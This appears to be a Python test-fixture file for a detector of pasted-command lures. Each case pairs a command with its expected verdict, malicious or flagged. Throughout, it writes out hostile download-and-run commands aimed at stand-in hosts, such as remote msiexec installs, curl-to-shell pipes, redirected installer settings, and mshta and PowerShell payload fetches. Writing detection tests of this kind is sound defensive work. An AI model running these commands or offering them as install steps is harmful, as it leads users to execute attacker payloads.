"""fpover21 look-alikes: lures that try to abuse what the fixes cleared, each at the level it must
keep (own words; lure hosts on reserved names). Cases are (target, source, expected level, text).
"""

LURE = "https://verify-now.example/captcha/step2"
FIX_PAGE = "https://driver-fix-center.example/windows/repair"
WIKI = "https://wiki.northwind.example/display/SEC/Endpoint+agents"

# msiexec: an address that is a property's value is no package; one that is the package, a
# transform or a patch is still fetched and installed
MSIEXEC_PROPERTY = [
    (
        "terminal",
        LURE,
        "malicious",
        'msiexec /i "https://cdn-upd.example/a.msi" SERVER=https://c2.cdn-upd.example /qn',
    ),
    (
        "terminal",
        LURE,
        "malicious",
        "msiexec /i local.msi TRANSFORMS=https://cdn-upd.example/t.mst /qn",
    ),
    ("terminal", LURE, "malicious", "msiexec /q /i'https://cdn-upd.example/update.msi'"),
    (
        "run_dialog",
        FIX_PAGE,
        "malicious",
        "msiexec /quiet /i https://driver-fix-center.example/fix.msi LOGSERVER=https://driver-fix-center.example/log",
    ),
    (
        "unknown",
        None,
        "flagged",
        'msiexec /qn /i http://198.51.100.23/agent.msi SERVER_URL="https://fleet.cdn-upd.example"',
    ),
]

# a known vendor's bucket is the vendor's; a bucket with another name beside it is not
VENDOR_BUCKET = [
    (
        "terminal",
        "https://docs.gitlab.com/runner/install/windows/",
        "malicious",
        "curl -fsSL https://gitlab-runner-downloads-eu.s3.amazonaws.com/install.sh | bash",
    ),
    (
        "terminal",
        LURE,
        "malicious",
        "Invoke-WebRequest -Uri https://gitlab-runner-download.s3.amazonaws.com/latest/gitlab-runner.exe -OutFile $env:TEMP\\r.exe; & $env:TEMP\\r.exe",
    ),
    (
        "terminal",
        LURE,
        "malicious",
        "msiexec /qn /i https://s3.amazonaws.com/ddagent-windows-stable-update/datadog-agent-7-latest.amd64.msi",
    ),
]

# settings in front of a known installer: the vendor's own, never a redirect to someone else's
# server; a look-alike host or a second download is no installer's
INSTALLER_SETTINGS = [
    (
        "terminal",
        LURE,
        "malicious",
        'DD_URL=https://intake.verify-now.example DD_SITE=datadoghq.com bash -c "$(curl -L https://install.datadoghq.com/scripts/install_script_agent7.sh)"',
    ),
    (
        "terminal",
        LURE,
        "malicious",
        'HOMEBREW_BREW_GIT_REMOTE=https://git.verify-now.example/brew.git HOMEBREW_CORE_GIT_REMOTE=x /bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"',
    ),
    (
        "terminal",
        LURE,
        "malicious",
        'HOMEBREW_BREW_GIT_REMOTE=git.verify-now.example/brew.git NONINTERACTIVE=1 /bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"',
    ),
    (
        "terminal",
        LURE,
        "malicious",
        'DD_API_KEY=x DD_SITE=y bash -c "$(curl -L https://install.datadoghq.com.verify-now.example/agent.sh)"',
    ),
    (
        "terminal",
        WIKI,
        "malicious",
        'DD_API_KEY=x DD_SITE=datadoghq.com bash -c "$(curl -L https://install-datadoghq.com/scripts/install_script_agent7.sh)"',
    ),
    (
        "terminal",
        LURE,
        "malicious",
        "curl -fsSL https://raw.githubusercontent.com/microsoft-mdatp/xplat/master/i.sh | sudo bash",
    ),
    (
        "terminal",
        LURE,
        "malicious",
        "curl -fsSL https://raw.githubusercontent.com/microsoft/mdatp-xplat/master/linux/installation/mde_installer.sh | sudo bash; curl -s http://203.0.113.9/x | sh",
    ),
    (
        "unknown",
        None,
        "flagged",
        'A=1 B=2 bash -c "$(curl -L https://cdn.verify-now.example/agent.sh)"',
    ),
]

# an analyst's record: a process tree's rows and indicators alone quote nothing live; a live
# address beside them, or the same rows pasted where they would run, keep their level
RECORDS = [
    (
        "other",
        "https://app.any.run/tasks/11111111-2222-3333-4444-555555555555",
        "flagged",
        'Process tree\nexplorer.exe (PID 4120)\n └─ powershell.exe -w hidden -c "iex(iwr https://stage2.verify-now.example/p -UseBasicParsing)" (PID 6644)',
    ),
    (
        "terminal",
        None,
        "flagged",
        'explorer.exe (PID 4120)\n └─ powershell.exe -w hidden -c "iex(iwr hxxps://stage2[.]example/p)" (PID 6644)',
    ),
    (
        "unknown",
        None,
        "flagged",
        "IOCs\n- cdn-check[.]example\n- 8f3a1c2d9e7b4a6c8d0e1f2a3b4c5d6e\nmshta https://cdn-check.verify-now.example/v.hta",
    ),
    ("run_dialog", LURE, "malicious", "└─ mshta hxxps://cdn-check[.]example/v.hta (PID 7012)"),
]

# mshta with an address that names a host: fetched and run whatever the quoting
MSHTA_HOST = [
    ("run_dialog", LURE, "malicious", 'mshta "http://198.51.100.7/a.hta"'),
    ("unknown", None, "flagged", "mshta 'https://cdn-check.verify-now.example/v.hta'"),
    (
        "terminal",
        LURE,
        "malicious",
        "C:\\Windows\\System32\\mshta.exe https://verify-now.example/c.hta # I am not a robot - Cloudflare ID 4821",
    ),
]

# Configuration Manager's applet by its own name only; by a path, a share or with a second
# command it is what it was
CONTROL_APPLET = [
    ("run_dialog", LURE, "malicious", "control smscfgrc && powershell -w h -c calc"),
    ("run_dialog", LURE, "malicious", "control C:\\Users\\Public\\smscfgrc.cpl"),
    ("run_dialog", LURE, "malicious", "control \\\\fs.verify-now.example\\x\\smscfgrc.cpl"),
]

# a renamed vendor's docs vouch for its old name's download hosts, never for a look-alike of it
POSIT = "https://docs.posit.co/ide/server-pro/getting_started/installation/installation.html"
RENAMED_VENDOR = [
    (
        "terminal",
        POSIT,
        "malicious",
        "curl -O https://download2.rstudio.org.verify-now.example/rstudio.deb\nsudo gdebi rstudio.deb",
    ),
    (
        "terminal",
        POSIT,
        "malicious",
        "curl -O https://rstudio-download.example/server/rstudio.deb\nsudo dpkg -i rstudio.deb",
    ),
    (
        "terminal",
        LURE,
        "malicious",
        "curl -O https://download2.rstudio.org/server/jammy/amd64/rstudio-workbench-2024.09.1-amd64.deb\nsudo gdebi rstudio-workbench-2024.09.1-amd64.deb",
    ),
]

LOOK_ALIKES = [
    ("renamed-vendor-lookalike", "any", RENAMED_VENDOR),
    ("msiexec-property-url", "windows", MSIEXEC_PROPERTY),
    ("vendor-bucket-lookalike", "any", VENDOR_BUCKET),
    ("installer-settings-redirect", "any", INSTALLER_SETTINGS),
    ("record-shaped-live", "any", RECORDS),
    ("mshta-host", "windows", MSHTA_HOST),
    ("control-applet-path", "windows", CONTROL_APPLET),
]
